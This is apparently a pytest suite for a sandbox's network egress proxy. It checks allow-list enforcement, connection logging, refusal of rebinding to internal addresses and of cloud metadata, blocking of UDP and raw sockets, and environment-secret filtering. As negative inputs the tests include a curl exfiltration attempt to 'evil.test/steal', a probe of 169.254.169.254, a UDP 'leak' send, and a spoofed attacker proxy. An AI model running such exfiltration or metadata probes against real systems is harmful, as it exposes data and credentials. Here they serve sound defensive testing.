"""Network inside `blastshield run`: only the egress proxy, only the allow-list, every connection logged.

The loopback HTTP server runs outside the sandbox. The policy allows the name
`allowed.test`; `--resolve allowed.test:127.0.0.1` makes the proxy resolve it to the
server (an exact name in [network] allow may reach an internal address; a wildcard may not).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any


def _net_records(env: Any) -> list[dict[str, Any]]:
    result = env.run("log", "list", "--host", "sandbox", "--json", "--limit", "0")
    assert result.code == 0, result.stderr
    records: list[dict[str, Any]] = result.json()["records"]
    return [r for r in records if r.get("event") == "net.connect"]


def test_allowed_host_through_proxy(env: Any, policy: Callable[[Path, str], Path], base_policy: str,
                                    http_server: int) -> None:
    policy(env.workspace, base_policy)
    result = env.run("run", "--resolve", "allowed.test:127.0.0.1", "--",
                     "curl", "-sS", f"http://allowed.test:{http_server}/hello")
    assert result.code == 0, result.stderr
    assert result.stdout == "hello from outside\n"
    records = _net_records(env)
    assert len(records) == 1
    record = records[0]
    assert record["decision"] == "allow"
    assert record["action"] == f"GET allowed.test:{http_server}"
    assert record["outcome"]["address"] == "127.0.0.1"
    assert record["outcome"]["bytes_down"] > len("hello from outside\n")
    assert "[network].allow[0] 'allowed.test'" in record["rule"]


def test_connect_tunnel_to_allowed_host(env: Any, policy: Callable[[Path, str], Path], base_policy: str,
                                        http_server: int, inside_python: str) -> None:
    policy(env.workspace, base_policy)
    script = ("import socket,os\n"
              "s=socket.create_connection(('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':',1)[1])))\n"
              f"s.sendall(b'CONNECT allowed.test:{http_server} HTTP/1.1\\r\\n\\r\\n')\n"
              "print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
              "s.sendall(b'GET /tunnel HTTP/1.0\\r\\n\\r\\n')\n"
              "data=b''\n"
              "while (c:=s.recv(65536)): data+=c\n"
              "print(data.split(b'\\r\\n\\r\\n',1)[1].decode(), end='')\n")
    result = env.run("run", "--resolve", "allowed.test:127.0.0.1", "--", inside_python, "-c", script)
    assert result.code == 0, result.stderr
    assert result.stdout == "HTTP/1.1 200 Connection established\nhello from outside\n"
    assert _net_records(env)[0]["action"] == f"CONNECT allowed.test:{http_server}"


def test_host_not_on_list_gets_403_and_is_logged(env: Any, policy: Callable[[Path, str], Path],
                                                 base_policy: str) -> None:
    policy(env.workspace, base_policy)
    result = env.run("run", "--", "sh", "-c",
                     "curl -s -w '\\nstatus=%{http_code}\\n' http://evil.test/steal; "
                     "curl -sS https://evil.test/ 2>&1; exit 0")
    assert "status=403" in result.stdout
    assert "blastshield: connection to evil.test:80 refused by policy" in result.stdout
    assert "CONNECT tunnel failed, response 403" in result.stdout
    records = _net_records(env)
    assert sorted(r["action"] for r in records) == ["CONNECT evil.test:443", "GET evil.test:80"]
    assert all(r["decision"] == "deny" and r["outcome"]["status"] == 403 for r in records)
    assert all("[network].default" in r["rule"] for r in records)


def test_wildcard_cannot_reach_internal_address(env: Any, policy: Callable[[Path, str], Path],
                                                http_server: int) -> None:
    policy(env.workspace, '[network]\nallow = ["*.test"]\n')
    result = env.run("run", "--resolve", "rebind.test:127.0.0.1", "--",
                     "curl", "-s", f"http://rebind.test:{http_server}/")
    assert "resolves to the internal address 127.0.0.1" in result.stdout
    assert "hello from outside" not in result.stdout


def test_cloud_metadata_refused_even_with_allow_all(env: Any, policy: Callable[[Path, str], Path]) -> None:
    policy(env.workspace, '[network]\nallow = ["*"]\n')
    result = env.run("run", "--", "curl", "-s", "-w", "\\n%{http_code}", "http://169.254.169.254/latest/")
    assert result.stdout.endswith("\n403")
    assert "cloud metadata" in result.stdout


def test_direct_socket_to_outside_loopback_fails(env: Any, policy: Callable[[Path, str], Path],
                                                 base_policy: str, http_server: int,
                                                 inside_python: str) -> None:
    policy(env.workspace, base_policy)
    script = ("import socket\n"
              "try:\n"
              f"    socket.create_connection(('127.0.0.1', {http_server}), timeout=5)\n"
              "    print('CONNECTED')\n"
              "except OSError as exc:\n"
              "    print('refused', type(exc).__name__)\n")
    result = env.run("run", "--", inside_python, "-c", script)
    assert result.stdout == "refused ConnectionRefusedError\n", result.stderr


def test_udp_and_raw_sockets_refused(env: Any, policy: Callable[[Path, str], Path], base_policy: str,
                                     inside_python: str) -> None:
    policy(env.workspace, base_policy)
    script = ("import socket\n"
              "for fam, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_DGRAM),\n"
              "                  (socket.AF_INET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW),\n"
              "                  (socket.AF_PACKET, socket.SOCK_RAW)):\n"
              "    try:\n"
              "        s = socket.socket(fam, kind)\n"
              "        s.sendto(b'leak', ('1.1.1.1', 53)); print('SENT', fam)\n"
              "    except OSError as exc:\n"
              "        print(exc.errno)\n")
    result = env.run("run", "--", inside_python, "-c", script)
    assert result.stdout.split() == ["1"] * 5, result.stdout + result.stderr  # EPERM each time


def test_environment_filtered(env: Any, policy: Callable[[Path, str], Path], base_policy: str) -> None:
    policy(env.workspace, base_policy)
    extra = {"GITHUB_TOKEN": "ghp_" + "a" * 36, "MY_EXACT_API_KEY": "kept-exact", "MY_API_KEY": "dropped",
             "MY_SETTING": "kept-glob", "MY_SECRET_BLOCKED": "no", "UNLISTED": "no",
             "HTTP_PROXY": "http://attacker:1"}
    result = env.run("run", "--", "env", extra_env=extra)
    seen = dict(line.split("=", 1) for line in result.stdout.splitlines() if "=" in line)
    assert seen["MY_EXACT_API_KEY"] == "kept-exact"
    assert seen["MY_SETTING"] == "kept-glob"
    for name in ("GITHUB_TOKEN", "MY_API_KEY", "MY_SECRET_BLOCKED", "UNLISTED"):
        assert name not in seen
    assert seen["HTTP_PROXY"] == "http://127.0.0.1:3128"
    assert seen["HOME"] == str(env.home)
    assert json.dumps(seen).count("ghp_") == 0
